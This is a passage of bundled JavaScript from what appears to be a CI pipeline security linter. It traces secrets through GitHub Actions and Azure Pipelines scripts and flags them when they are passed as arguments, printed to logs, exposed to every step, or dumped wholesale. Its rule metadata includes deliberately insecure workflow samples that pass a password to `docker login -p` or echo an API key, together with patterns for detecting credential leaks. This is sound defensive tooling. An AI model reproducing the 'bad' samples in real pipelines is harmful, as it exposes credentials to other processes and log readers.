                to: old[1].toLowerCase() === 'env' ? 'environment' : 'output',
                name: old[2],
                declared: false,
                certain: true
            });
        }
        return true;
    }
    /** The file of the runner that a command writes to. */
    handOverOf(command) {
        const files = command.redirects.map(({ target }) => target);
        for (let reader = command; reader; reader = reader.pipedTo) {
            const program = (0,minting/* programOf */.oQ)(reader);
            if (reader !== command)
                files.push(...reader.redirects.map(({ target }) => target));
            if (/^(?:tee|out-file|add-content|set-content|tee-object|ac|sc)$/.test(program)) {
                files.push(...reader.words.slice(1));
            }
        }
        for (const file of files) {
            for (const { name, kind } of file?.expansions ?? []) {
                const variable = name
                    ?.replace(/^env:/i, '')
                    .replace(/^(?:env|github)\./i, '')
                    .toUpperCase();
                if (kind !== 'variable' && kind !== 'template')
                    continue;
                if (variable === 'GITHUB_ENV' || (kind === 'template' && variable === 'ENV'))
                    return 'environment';
                if (variable === 'GITHUB_OUTPUT' || variable === 'GITHUB_STATE')
                    return 'output';
            }
        }
        return undefined;
    }
    handOver(command, to) {
        const seen = new Set();
        for (const word of wordsOf(command)) {
            const lines = assignedLines(word);
            const assigned = lines.flatMap(({ name, value }) => {
                const secret = this.valueOf(value);
                return secret ? [{ name, secret }] : [];
            });
            // A name may stand in a line, or a command, of its own: `NAME<<EOF`.
            const loose = assigned.length === 0 ? this.valueOf(word) : undefined;
            if (loose)
                assigned.push({ name: lines[0]?.name ?? '', secret: loose });
            for (const { name, secret } of assigned) {
                if (seen.has(secret.origin))
                    continue;
                seen.add(secret.origin);
                this.handedOn(command, word, secret, to, name, true);
            }
            if (assigned.length > 0)
                continue;
            for (const { name, value } of lines) {
                if (!(0,secret_name/* secretName */.G)(name))
                    continue;
                if (!value.expansions.some(expansion => this.mayBeSecret(expansion, value)))
                    continue;
                const unknown = {
                    kind: 'stored',
                    what: name,
                    origin: `name ${name}`,
                    named: true
                };
                this.handedOn(command, word, unknown, to, name, false);
            }
        }
    }
    /** A value that is not known: a variable with a secret's name, or an expression that yields one. */
    mayBeSecret(expansion, word) {
        if (expansion.kind === 'variable')
            return (0,secret_name/* secretName */.G)(this.nameOf(expansion.name ?? '').replace(/^env:/, '')) !== undefined;
        if (expansion.kind === 'template')
            return (0,secret_name/* secretName */.G)(expansion.name?.split('.').at(-1) ?? '') !== undefined;
        return (expansion.kind === 'command' &&
            /token|secret|password/i.test(word.text.text.slice(expansion.start, expansion.end)));
    }
    handedOn(command, word, value, to, name, certain) {
        this.events.push({
            kind: 'handed-on',
            step: this.step,
            range: command.words[0] ? command.range : word.range,
            value,
            masked: this.isMasked(value),
            to,
            name,
            declared: false,
            certain
        });
        if (value.kind === 'derived')
            this.parsed(value, word.range);
        if (to === 'environment' && name !== '')
            this.exported.set(name, value);
    }
    parsed(value, range) {
        this.events.push({ kind: 'parsed', step: this.step, range, value, masked: false });
    }
    isMasked(value) {
        return (value.kind === 'stored' ||
            value.kind === 'token' ||
            this.maskedAll ||
            this.masks.has(value.origin));
    }
    valuesIn(command) {
        const values = new Map();
        for (const word of wordsOf(command)) {
            const value = this.valueOf(word);
            if (value)
                values.set(word, value);
        }
        return values;
    }
    printed(command, program, values) {
        if (this.captured.has(command) || command.inFunction)
            return;
        const report = (value, how, by = program) => this.events.push({
            kind: 'printed',
            step: this.step,
            range: command.range,
            value,
            masked: this.isMasked(value),
            by,
            how
        });
        if (this.tracing && program !== 'set') {
            const [value] = values.values();
            if (value) {
                this.tracing = false;
                report(value, 'trace', 'set -x');
            }
        }
        if (isDump(command, program)) {
            const found = [...this.environment.values()].find(({ kind }) => kind !== 'token');
            if (found && reachesLog(command))
                report(found, 'dump');
            return;
        }
        if (program === 'printenv') {
            for (const { text } of (0,minting/* operandsOf */.ep)(command)) {
                const value = this.lookUp(text.text);
                if (value && reachesLog(command))
                    report(value, 'itself');
            }
            return;
        }
        const reads = /^(?:cat|tee)$/.test(program) && command.redirects.some(({ document }) => document);
        // PowerShell prints what nothing takes.
        const implicit = command.words.length === 0 && command.input !== undefined;
        if (!printers.has(program) && !reads && !implicit) {
            const minted = command.pipedFrom ? undefined : this.sourceOf(command);
            if (minted?.kind === 'minted' && reachesLog(command))
                report(minted, 'itself');
            return;
        }
        if (!reachesLog(command))
            return;
        const [value] = values.values();
        if (!value)
            return;
        if (chainOf(command).some(reader => selectsHarmless(reader, (0,minting/* programOf */.oQ)(reader), value)))
            return;
        const changed = chainOf(command).some(reader => transformers.has((0,minting/* programOf */.oQ)(reader)));
        const out = changed && value.kind === 'stored' ? derive(value) : value;
        report(out, 'itself');
    }
    /** The secret that a word holds, whole or in part. */
    valueOf(word) {
        for (const expansion of word.expansions) {
            const value = this.expansionValue(expansion, word);
            if (value)
                return value;
        }
        return undefined;
    }
    expansionValue(expansion, word) {
        const { kind, name, commands, modified } = expansion;
        if (kind === 'command') {
            const output = this.outputOf(commands ?? []);
            return output ?? (this.power ? this.subexpression(word, expansion) : undefined);
        }
        if (kind === 'template')
            return this.templateValue(name ?? '');
        if (kind !== 'variable' || name === undefined)
            return undefined;
        const value = this.lookUp(name);
        if (!value || !modified)
            return value;
        if (this.power) {
            // A property of an object that a command gave: its token, or when it ends.
            const text = word.text.text.slice(expansion.start, expansion.end);
            return /expires|tenant|type\b|length|count|userid/i.test(text) ? undefined : value;
        }
        const operator = word.text.text.slice(expansion.start + 2 + name.length, expansion.end - 1);
        if (/^:?\+/.test(operator) || word.text.text[expansion.start + 2] === '#')
            return undefined;
        return /^:?[-=?]/.test(operator) || value.kind !== 'stored' ? value : derive(value);
    }
    /** PowerShell: `$($x.Token)`, whose inside is no command. */
    subexpression(word, { start, end }) {
        const text = word.text.text.slice(start, end);
        const match = /^\$\(\s*\$((?:env:)?\w+)((?:\.\w+)*)\s*\)$/i.exec(text);
        const value = match ? this.lookUp(match[1]) : undefined;
        return value && !(0,minting/* isHarmlessSelection */.yc)(match[2], 'stored') ? value : undefined;
    }
    lookUp(name) {
        if (this.power) {
            const lower = this.nameOf(name);
            if (lower.startsWith('env:')) {
                const wanted = lower.slice(4);
                for (const [variable, value] of this.environment) {
                    if (variable.toLowerCase() === wanted)
                        return value;
                }
                return undefined;
            }
            return this.variables.get(lower);
        }
        if (this.variables.has(name))
            return this.variables.get(name);
        return this.environment.get(name);
    }
    templateValue(name) {
        if (this.step.job.pipeline.system === 'azure')
            return azureVariable(name, this.step.job);
        const { expression } = (0,formats_expression/* parseExpression */.YK)(source/* MappedText */.D.of(new source/* SourceFile */.s('', name)), 'github');
        for (const reference of expression ? (0,formats_expression/* referencesIn */.ii)(expression) : []) {
            const value = fromReference(reference, this.environment);
            if (value)
                return value;
        }
        return undefined;
    }
    /** The secret that the commands of a substitution print; undefined when they print none. */
    outputOf(commands) {
        for (const command of commands) {
            if (command.pipedFrom && commands.includes(command.pipedFrom))
                continue;
            const source = this.sourceOf(command);
            if (!source)
                continue;
            let value = source;
            for (const reader of chainOf(command)) {
                if (!value)
                    break;
                const program = (0,minting/* programOf */.oQ)(reader);
                if (digests.test(program))
                    value = undefined;
                else if (program === 'grep' && reader.words.some(({ text }) => /^-\w*[cq]/.test(text.text)))
                    value = undefined;
                else if (selectsHarmless(reader, program, value))
                    value = undefined;
                else if (!transformers.has(program) &&
                    !repeaters.has(program) &&
                    !/^(?:convert|select|foreach|%|out-string)/.test(program)) {
                    value = undefined;
                }
                else if (transformers.has(program) && value.kind === 'stored')
                    value = derive(value);
            }
            if (value)
                return value;
        }
        return undefined;
    }
    sourceOf(command) {
        const program = (0,minting/* programOf */.oQ)(command);
        const minted = (0,minting/* mintedBy */.NO)(command);
        if (minted) {
            if (command.redirects.some(({ operator, descriptor }) => operator.startsWith('>') && descriptor !== '2'))
                return undefined;
            return { kind: 'minted', what: minted, origin: `minted ${command.range.start}`, named: true };
        }
        const text = printers.has(program) || program === 'cat' || transformers.has(program);
        if (!text)
            return undefined;
        const read = command.redirects.flatMap(({ document }) => document ?? []);
        const words = printers.has(program) ? [...command.words.slice(1), ...read] : read;
        const value = words.map(word => this.valueOf(word)).find(found => found !== undefined) ??
            (command.input && this.valueOf(command.input));
        if (!value || selectsHarmless(command, program, value))
            return undefined;
        return transformers.has(program) && value.kind === 'stored' ? derive(value) : value;
    }
}
function* wordsOf(command) {
    yield* command.words;
    for (const { document } of command.redirects)
        if (document)
            yield document;
    if (command.input)
        yield command.input;
}
function documentOf(command) {
    return command.redirects.map(({ document }) => document?.text.text ?? '').join('\n');
}
const maxLines = 200;
/** The lines `NAME=value` of a word, with the value of each. */
function assignedLines(word) {
    const text = word.text.text;
    const lines = [];
    for (const match of text.matchAll(/(?:^|\n)[ \t]*([A-Za-z_][\w-]*)(?:=|<<)/g)) {
        if (lines.length >= maxLines)
            break;
        const start = match.index + match[0].length;
        const newline = text.indexOf('\n', start);
        lines.push({
            name: match[1],
            value: sliceWord(word, start, newline < 0 ? text.length : newline)
        });
    }
    return lines;
}
function sliceWord(word, start, end) {
    const text = word.text.slice(start, end);
    return {
        ...word,
        text,
        range: text.range(),
        expansions: word.expansions
            .filter(expansion => expansion.start >= start && expansion.end <= end)
            .map(expansion => ({
            ...expansion,
            start: expansion.start - start,
            end: expansion.end - start
        }))
    };
}
//# sourceMappingURL=script-flow.js.map
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/secret-flow.js






const flows = new WeakMap();
/** Follows secrets through the scripts of a job, in the order in which they run. */
function secretFlow(job) {
    let events = flows.get(job);
    if (!events) {
        events = new JobFlow(job).run();
        flows.set(job, events);
    }
    return events;
}
class JobFlow {
    job;
    events = [];
    /** Environment that earlier steps have set for later ones. */
    exported = new Map();
    masks = new Set();
    constructor(job) {
        this.job = job;
    }
    run() {
        for (const step of this.job.steps) {
            const { script } = step;
            if (!script)
                continue;
            const environment = this.environmentOf(step);
            if (script.commands) {
                new ScriptFlow(step, script.commands, environment, this.events, this.exported, this.masks).run();
            }
            else
                this.readLoggingCommands(step);
        }
        // A part of a secret that is masked later on is masked in time: the mask has to come before
        // it is printed or handed on, which those events judge by themselves.
        return this.events.map(event => event.kind === 'parsed' ? { ...event, masked: this.masks.has(event.value.origin) } : event);
    }
    environmentOf(step) {
        const environment = new Map(this.exported);
        const scopes = [this.job.pipeline.variables, this.job.variables, step.variables];
        for (const variable of scopes.flat()) {
            if (variable.group)
                continue;
            const value = this.valueOf(variable, step);
            const name = secret_value_environmentName(variable.name.text, step);
            if (value)
                environment.set(name, value);
            else
                environment.delete(name);
        }
        return environment;
    }
    valueOf({ value }, step) {
        // Every step asks for every variable, and most are plain text.
        if (!value.text.includes('$'))
            return undefined;
        if (step.job.pipeline.system === 'azure') {
            for (const { name } of (0,azure_expression/* findMacros */.$u)(value)) {
                const found = azureVariable(name, step.job);
                if (found)
                    return found;
            }
            return undefined;
        }
        for (const { expression } of (0,github_expression/* findGitHubExpressions */.Go)(value)) {
            for (const reference of expression ? (0,formats_expression/* referencesIn */.ii)(expression) : []) {
                const found = fromReference(reference, this.exported);
                if (found)
                    return found;
            }
        }
        return undefined;
    }
    /** For shells that are not parsed: logging commands that set a variable, by their text. */
    readLoggingCommands(step) {
        const { text } = step.script;
        for (const match of text.text.matchAll(/##vso\[task\.setvariable ([^\]\r\n]{1,300})\]([^\r\n]*)/gi)) {
            const start = match.index;
            const [, properties, value] = match;
            if (!/%\w+%|\$|\{\w+\}/.test(value))
                continue;
            const event = setVariableEvent(step, properties, undefined, {
                range: text.range(start, start + match[0].length - value.length),
                properties: text.range(start + match[0].length - value.length - 1, start + match[0].length - value.length - 1)
            });
            if (event)
                this.events.push(event);
        }
    }
}
//# sourceMappingURL=secret-flow.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/secret-on-command-line.js




/** A secret among the arguments of a program. */
const secretOnCommandLine = {
    meta: {
        id: 'secret-on-command-line',
        summary: 'Secret passed as an argument of a program',
        severity: 'warning',
        why: 'The arguments of a program are no secret: every process of the machine can read them in the process list, audit and crash logs record them, and tracing (`set -x`, debug logs) prints them. On a self-hosted runner that means every other job. What a program is given through its environment or its standard input only it can read.',
        fix: 'Use the way that the program has for secrets: `docker login --password-stdin`, an environment variable (`ANTHROPIC_API_KEY`, `-e NAME` without a value), a file or `curl --config -`. `az login` with a password is best replaced by a login with the identity of the job.',
        securitySeverity: 5,
        references: [
            'https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information',
            'https://learn.microsoft.com/en-us/azure/devops/pipelines/security/secrets'
        ],
        bad: {
            file: '.github/workflows/push.yml',
            text: `on: push
permissions: {}
jobs:
  push:
    runs-on: ubuntu-latest
    steps:
      - env:
          REGISTRY_PASSWORD: \${{ secrets.REGISTRY_PASSWORD }}
        run: docker login registry.acme.com -u ci -p "$REGISTRY_PASSWORD"
`
        },
        good: {
            file: '.github/workflows/push.yml',
            text: `on: push
permissions: {}
jobs:
  push:
    runs-on: ubuntu-latest
    steps:
      - env:
          REGISTRY_PASSWORD: \${{ secrets.REGISTRY_PASSWORD }}
        run: printf %s "$REGISTRY_PASSWORD" | docker login registry.acme.com -u ci --password-stdin
`
        }
    },
    check({ pipeline }, report) {
        for (const job of pipeline?.jobs ?? []) {
            for (const event of secretFlow(job)) {
                if (event.kind !== 'command')
                    continue;
                const found = exposedArgument(event);
                if (!found)
                    continue;
                report({
                    range: found.word.range,
                    message: `${found.what} stands among the arguments of ${(0,minting/* programOf */.oQ)(event.command)}, where every process of the machine can read it`,
                    help: found.help,
                    subject: `${job.id} ${(0,minting/* programOf */.oQ)(event.command)} ${found.flag}`,
                    ...(found.severity ? { severity: found.severity } : {})
                });
            }
        }
    }
};
/** Part of the shell itself: their arguments are no process's. */
const builtins = new Set('echo printf export declare local readonly typeset unset set shift test [ [[ read true false : return exit eval trap print write-host write-output write-information write-verbose'.split(' '));
/** Programs with a short option that takes a secret, and the verb that gives it that meaning. */
const shortOptions = [
    [
        /^(?:docker|podman|nerdctl|buildah|skopeo|crane|oras|helm|cf|az|ecs-cli|tanzu)$/,
        /\blogin\b/,
        /^-p$/
    ],
    [/^(?:mysql|mysqldump|mysqladmin|mariadb)$/, /^/, /^-p(?=.)/],
    [/^(?:sshpass)$/, /^/, /^-p/],
    [/^(?:redis-cli)$/, /^/, /^-a$/],
    [/^(?:sqlcmd|bcp|unzip|zip)$/, /^/, /^-P/],
    [
        /^(?:sonar-scanner|mvn|gradle|\.\/gradlew|gradlew|dotnet)$/,
        /^/,
        /^[-/][dDpP][:=]?(?:sonar\.(?:login|token|password)|[\w.]*(?:password|token|apikey))=/i
    ]
];
function exposedArgument({ command, values, step }) {
    const program = (0,minting/* programOf */.oQ)(command);
    // PowerShell runs its own commands and scripts, with parameters of one dash, in its own process.
    const inProcess = /^(?:pwsh|powershell)$/.test(step.script?.shell ?? '');
    if (program === '' || builtins.has(program))
        return undefined;
    const { words } = command;
    const verb = words
        .slice(1, 4)
        .map(({ text }) => text.text)
        .join(' ');
    for (let i = 1; i < words.length; i++) {
        const word = words[i];
        const text = word.text.text;
        const found = (inProcess && !text.startsWith('--') ? undefined : longOption(program, words, i, values)) ??
            shortOption(program, verb, words, i, values) ??
            environmentOption(program, words, i, values) ??
            header(program, words, i, values) ??
            userInfo(program, words, i, values) ??
            urlWithSecret(program, word, values);
        if (found)
            return found;
        if (program === 'npm' &&
            /_authToken[= ]?/.test(text) &&
            (word.expansions.length > 0 || (words[i + 1]?.expansions.length ?? 0) > 0)) {
            return {
                word,
                flag: '_authToken',
                what: 'a token',
                help: 'Put the token into NODE_AUTH_TOKEN and let .npmrc refer to it.'
            };
        }
    }
    return undefined;
}
/** Programs that read their key from nowhere else. */
const noOtherWay = new Set(['dotnet', 'nuget', 'vercel', 'vsce', 'ovsx']);
/** `--password X`, `--token=X`, `-Password X`: the option's own name says that it takes a secret. */
function longOption(program, words, index, values) {
    const word = words[index];
    const text = word.text.text;
    const match = /^(--?[A-Za-z][\w-]*)(?:([=:])([\s\S]*))?$/.exec(text);
    if (!match)
        return undefined;
    const [, flag, separator] = match;
    if (!flag.startsWith('--') && flag.length < 5)
        return undefined;
    if (!(0,secret_name/* secretName */.G)(flag) ||
        /(?:stdin|file|path|env|name|id|prompt|type|store|url|ref)$/i.test(flag))
        return undefined;
    // A signed statement of the job, good for minutes and for one exchange.
    if (/^--(?:federated-token|id-token|assertion|web-identity-token)$/.test(flag))
        return undefined;
    // Not a value but where one is: `docker build --secret id=x,src=y`.
    if (/^--secrets?$/.test(flag) &&
        /^(?:docker|podman|buildah|buildx|gh|gcloud|kubectl|az|act)$/.test(program)) {
        return undefined;
    }
    const value = separator ? (0,shell/* wordFrom */.jn)(word, flag.length + 1) : words[index + 1];
    if (!value || value.expansions.length === 0)
        return undefined;
    const first = value.expansions[0];
    const literalBefore = value.text.text.slice(0, first.start);
    // A file, a reference to a store, an environment's name.
    if (/^(?:file:|@|env:|op:|vault:|\/|\.{1,2}\/)/.test(literalBefore) ||
        /\.(?:json|txt|pem|key|ya?ml)$/i.test(value.text.text)) {
        return undefined;
    }
    const known = values.get(separator ? word : value);
    if (!known &&
        first.kind === 'template' &&
        /^(?:inputs|matrix|github\.event|vars|parameters)\b/.test(first.name ?? '') &&
        !(0,secret_name/* secretName */.G)(first.name?.split('.').at(-1) ?? '')) {
        return undefined;
    }
    const only = noOtherWay.has(program);
    return {
        word: separator ? word : value,
        flag: flag,
        what: known?.what ?? `the value of ${flag}`,
        help: only
            ? `${program} takes it no other way: run it where nobody else does, and let the token live as short as it can, by trusted publishing where there is one.`
            : secret_on_command_line_helpFor(program, flag),
        ...(only ? { severity: 'note' } : {})
    };
}
function secret_on_command_line_helpFor(program, flag) {
    switch (program) {
        case 'docker':
        case 'podman':
        case 'helm':
        case 'oras':
            return 'Pipe it in: printf %s "$PASSWORD" | … --password-stdin.';
        case 'claude':
            return 'Put the key into ANTHROPIC_API_KEY in the env of the step and drop the option.';
        case 'az':
            return 'Log in with the identity of the job, and let the task or azure/login do it.';
        default:
            return `Use the environment variable or the standard input that ${program} reads in place of ${flag}.`;
    }
}
function shortOption(program, verb, words, index, values) {
    const word = words[index];
    for (const [programs, verbs, option] of shortOptions) {
        if (!programs.test(program) || !verbs.test(verb))
            continue;
        const match = option.exec(word.text.text);
        if (!match)
            continue;
        const attached = word.text.text.length > match[0].length;
        const value = attached ? (0,shell/* wordFrom */.jn)(word, match[0].length) : words[index + 1];
        if (!value || value.expansions.length === 0)
            continue;
        if (program === 'az' && /\.(?:pem|pfx|crt)$/i.test(value.text.text))
            continue;
        return {
            word: attached ? word : value,
            flag: match[0],
            what: values.get(attached ? word : value)?.what ?? 'a password',
            help: secret_on_command_line_helpFor(program, match[0])
        };
    }
    return undefined;
}
/** `docker run -e TOKEN=$TOKEN`, `--build-arg`, `--set`, `--from-literal`, `-var`. */
function environmentOption(program, words, index, values) {
    const word = words[index];
    const text = word.text.text;
    const before = words[index - 1]?.text.text ?? '';
    const joined = /^(--(?:env|build-arg|set|set-string|from-literal|var)|-var)=/.exec(text);
    const flag = joined?.[1] ?? before;
    const containers = /^(?:docker|podman|nerdctl|buildah)$/.test(program);
    const applies = (containers && /^(?:-e|--env|--build-arg)$/.test(flag)) ||
        (program === 'helm' && /^--set(?:-string)?$/.test(flag)) ||
        (/^(?:kubectl|oc)$/.test(program) && flag === '--from-literal') ||
        (/^(?:terraform|tofu|terragrunt)$/.test(program) && /^-?-var$/.test(flag)) ||
        (program === 'claude' && /^(?:-e|--env)$/.test(flag));
    if (!applies)
        return undefined;
    const pair = (0,shell/* wordFrom */.jn)(word, joined ? joined[0].length : 0);
    const equals = pair.text.text.indexOf('=');
    if (equals < 1 || pair.expansions.length === 0)
        return undefined;
    const name = pair.text.text.slice(0, equals).split('.').at(-1);
    const known = values.get(word);
    if (!known && !(0,secret_name/* secretName */.G)(name))
        return undefined;
    return {
        word,
        flag,
        what: known?.what ?? `the value of ${name}`,
        help: containers
            ? `Name the variable without its value (${flag} ${name}): it is then taken from the environment.`
            : 'Hand it over in a file or through the environment.'
    };
}
/** `curl -H "Authorization: Bearer $TOKEN"`: common, and mostly on machines that no one shares. */
function header(program, words, index, values) {
    if (!/^(?:curl|wget|http|https|xh)$/.test(program))
        return undefined;
    const word = words[index];
    const match = /^(?:--header=|-H)?\s*([A-Za-z][\w-]*)\s*:\s*/.exec(word.text.text);
    const flagged = /^(?:-H|--header)$/.test(words[index - 1]?.text.text ?? '') ||
        /^(?:-H|--header=)/.test(word.text.text);
    if (!match || !flagged || word.expansions.length === 0)
        return undefined;
    const known = values.get(word);
    if (!known &&
        !/^(?:authorization|proxy-authorization|.*(?:token|api-?key|secret).*)$/i.test(match[1])) {
        return undefined;
    }
    return {
        word,
        flag: `-H ${match[1]}`,
        severity: 'note',
        what: known?.what ?? `the value of the header ${match[1]}`,
        help: 'Let curl read the header from its standard input: curl -H @- <<< "Authorization: Bearer $TOKEN".'
    };
}
/** `git clone https://x:$TOKEN@host/…`. */
function urlWithSecret(program, word, values) {
    const known = values.get(word);
    const text = word.text.text;
    const scheme = text.indexOf('://');
    const at = scheme < 0 ? -1 : text.indexOf('@', scheme);
    if (!known || at < 0)
        return undefined;
    if (!word.expansions.some(({ start, end }) => start > scheme && end <= at))
        return undefined;
    return {
        word,
        flag: 'url',
        what: known.what,
        help: program === 'git'
            ? 'Let git ask for it: actions/checkout with token, a credential helper, or http.extraHeader from the environment (GIT_CONFIG_COUNT).'
            : 'Hand it over through the environment or the standard input.',
        // The token of the job ends with it.
        ...(known.kind === 'token' ? { severity: 'note' } : {})
    };
}
/** `curl -u user:$PASSWORD`. */
function userInfo(program, words, index, values) {
    if (program !== 'curl' || !/^(?:-u|--user)$/.test(words[index - 1]?.text.text ?? ''))
        return undefined;
    const word = words[index];
    const known = values.get(word);
    if (!known)
        return undefined;
    return {
        word,
        flag: '-u',
        what: known.what,
        help: 'Use --netrc-file, or --config - with the user on the standard input.'
    };
}
//# sourceMappingURL=secret-on-command-line.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/secret-printed.js

/** A secret that is written to the log. */
const secretPrinted = {
    meta: {
        id: 'secret-printed',
        summary: 'Secret written to the log',
        severity: 'error',
        why: 'Logs are kept for months, are readable by everyone who can read the repository, and are copied to other systems. Masking replaces exactly the text that was stored: one more quote, a line break, an encoding or a part of it, and the secret stands there in clear. A token that a command fetched is not masked at all.',
        fix: 'Do not print it. To see whether a secret is there, test that it is not empty; to compare two, print a keyed digest. To hand a secret to a program, pipe it into its standard input.',
        securitySeverity: 8,
        references: [
            'https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information',
            'https://learn.microsoft.com/en-us/azure/devops/pipelines/security/secrets'
        ],
        bad: {
            file: '.github/workflows/test.yml',
            text: `on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - env:
          API_KEY: \${{ secrets.API_KEY }}
        run: echo "using $API_KEY"
`
        },
        good: {
            file: '.github/workflows/test.yml',
            text: `on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - env:
          API_KEY: \${{ secrets.API_KEY }}
        run: |
          if [ -n "$API_KEY" ]; then echo "the key is set"; fi
`
        }
    },
    check({ pipeline }, report) {
        for (const job of pipeline?.jobs ?? []) {
            for (const event of secretFlow(job)) {
                if (event.kind !== 'printed')
                    continue;
                const { value, how, by, masked } = event;
                // What the runner hides, and what is an address rather than a key, does less harm.
                const mild = masked && (how !== 'itself' || value.kind === 'token' || !value.named);
                report({
                    range: event.range,
                    message: how === 'dump'
                        ? `${by} writes the environment to the log, ${value.what} with it`
                        : how === 'trace'
                            ? `set -x writes every command to the log with its arguments, ${value.what} with them`
                            : `${value.what} is written to the log by ${by}${masked ? '' : ', and is not masked'}`,
                    help: 'Remove it; to see whether a secret is there, test that it is not empty.',
                    subject: `${job.id} ${value.what} ${by}`,
                    ...(mild ? { severity: 'warning' } : {})
                });
            }
        }
    }
};
//# sourceMappingURL=secret-printed.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/secret-too-wide.js





/** A secret in the environment of steps that do not need it. */
const secretTooWide = {
    meta: {
        id: 'secret-too-wide',
        summary: 'Secret in the environment of the whole workflow or job',
        severity: 'warning',
        why: 'Environment of a workflow or job is given to every step: to each action, each script, and each package that these run. One that has been tampered with reads it without asking. In Azure Pipelines a secret that is copied into `variables` stops being a secret variable and is put into the environment of every task.',
        fix: 'Move the entry to the `env` of the step that reads it.',
        securitySeverity: 5,
        references: [
            'https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information',
            'https://learn.microsoft.com/en-us/azure/devops/pipelines/process/set-secret-variables'
        ],
        bad: {
            file: '.github/workflows/release.yml',
            text: `on: push
permissions: {}
env:
  PUBLISH_TOKEN: \${{ secrets.PUBLISH_TOKEN }}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: npm test
  publish:
    runs-on: ubuntu-latest
    steps:
      - run: ./publish "$PUBLISH_TOKEN"
`
        },
        good: {
            file: '.github/workflows/release.yml',
            text: `on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: npm test
  publish:
    runs-on: ubuntu-latest
    steps:
      - run: ./publish
        env:
          PUBLISH_TOKEN: \${{ secrets.PUBLISH_TOKEN }}
`
        }
    },
    check({ pipeline }, report) {
        if (!pipeline)
            return;
        if (pipeline.system === 'azure')
            secret_too_wide_checkAzure(pipeline, report);
        else
            secret_too_wide_checkGitHub(pipeline, report);
    }
};
function secret_too_wide_checkGitHub(pipeline, report) {
    const jobs = pipeline.jobs.filter(({ kind }) => kind === 'job');
    for (const variable of pipeline.variables) {
        const secret = secretOf(variable);
        if (secret)
            judge(variable, secret, 'workflow', jobs, report);
    }
    for (const job of jobs) {
        for (const variable of job.variables) {
            const secret = secretOf(variable);
            if (secret)
                judge(variable, secret, 'job', [job], report);
        }
    }
}
/** The stored secret that a variable holds; the job's own token is short-lived and everywhere. */
function secretOf({ value }) {
    for (const { expression } of (0,github_expression/* findGitHubExpressions */.Go)(value)) {
        for (const { path, flows } of expression ? (0,formats_expression/* referencesIn */.ii)(expression) : []) {
            if (flows && path[0] === 'secrets' && path[1] !== undefined && path[1] !== 'github_token') {
                return path[1].toUpperCase();
            }
        }
    }
    return undefined;
}
function judge(variable, secret, level, jobs, report) {
    const steps = jobs.flatMap(job => job.steps);
    if (steps.length < 2)
        return;
    const name = variable.name.text;
    const readers = steps.filter(step => mentions(step, name));
    const others = steps.filter(step => !readers.includes(step));
    const jobsOfReaders = new Set(readers.map(({ job }) => job));
    const stranger = others.find(isThirdParty);
    let why;
    if (readers.length === 1)
        why = `only ${secret_too_wide_describe(readers[0])} reads it`;
    else if (level === 'workflow' &&
        jobs.length > 1 &&
        readers.length > 0 &&
        jobsOfReaders.size < jobs.length) {
        const [job] = jobsOfReaders;
        why =
            jobsOfReaders.size === 1
                ? `only steps of job '${job.id}' read it`
                : `${jobsOfReaders.size} of ${jobs.length} jobs read it`;
    }
    else if (stranger)
        why = `${stranger.uses?.text.text.trim()} gets it too`;
    // Tools take their variables without a word: that no step names it says little for a single job.
    else if (readers.length === 0 && level === 'workflow' && jobs.length > 1) {
        why = `all ${jobs.length} jobs get it`;
    }
    if (!why)
        return;
    report({
        range: variable.range,
        message: `secret ${secret} is in the environment of every step of the ${level}, and ${why}`,
        help: 'Move it to the env of the step that needs it.',
        subject: `${level} ${name}`,
        related: readers.slice(0, 5).map(step => ({
            message: 'read here',
            range: (step.name ?? step.uses?.text)?.range() ?? step.range
        }))
    });
}
function mentions(step, name) {
    const pattern = new RegExp(`(?<![\\w-])${name.replace(/[^\w]/g, '\\$&')}(?![\\w-])`, 'i');
    const texts = [
        step.script?.text,
        step.condition,
        ...step.inputs.flatMap(input => [input.name, input.value]),
        ...step.variables.map(({ value }) => value)
    ];
    return texts.some(text => text !== undefined && pattern.test(text.text));
}
function isThirdParty({ uses }) {
    return uses?.kind === 'repository' && !/^(?:actions|github)\//.test(uses.name);
}
function secret_too_wide_describe(step) {
    const name = step.name?.text ?? step.id ?? step.uses?.text.text;
    return name ? `step '${(0,credentials/* shownName */.HD)(name.trim())}'` : `step ${step.index} of job '${step.job.id}'`;
}
function secret_too_wide_checkAzure(pipeline, report) {
    const seen = new Set();
    const jobs = pipeline.jobs.flatMap(job => job.variables.map(variable => ({ job, variable })));
    const all = [...pipeline.variables.map(variable => ({ job: undefined, variable })), ...jobs];
    for (const { job, variable } of all) {
        if (seen.has(variable) || variable.group)
            continue;
        seen.add(variable);
        const secret = (0,azure_expression/* findMacros */.$u)(variable.value)
            .map(({ name }) => name)
            .find(name => name.toLowerCase() !== variable.name.text.toLowerCase() &&
            isSecretVariable(name, pipeline, job));
        if (!secret)
            continue;
        report({
            range: variable.range,
            message: `variable ${variable.name.text} copies the secret ${secret} for the whole ${variable.scope}: the copy is no secret variable, and every task gets it in its environment`,
            help: `Remove it and map $(${secret}) into the env of the step that needs it.`,
            subject: `${variable.scope} ${variable.name.text}`
        });
    }
}
//# sourceMappingURL=secret-too-wide.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/secrets-dump.js


/** All secrets at once, or one chosen at run time, which makes the runner hand all of them over. */
const secretsDump = {
    meta: {
        id: 'secrets-dump',
        summary: 'All secrets are handed to a job at once',
        severity: 'error',
        why: 'A runner gets only the secrets that the workflow names. `toJSON(secrets)` and `secrets[…]` with a computed name make GitHub send every secret of the repository and the organisation, and a Key Vault task with `*` downloads the whole vault: one compromised step then has them all, and no review shows which are used.',
        fix: 'Name each secret: `${{ secrets.NAME }}`, in the `env` of the step that needs it. To choose by environment, put the secret under one name into several environments. For Key Vault list the names in `SecretsFilter`.',
        securitySeverity: 8,
        references: [
            'https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information',
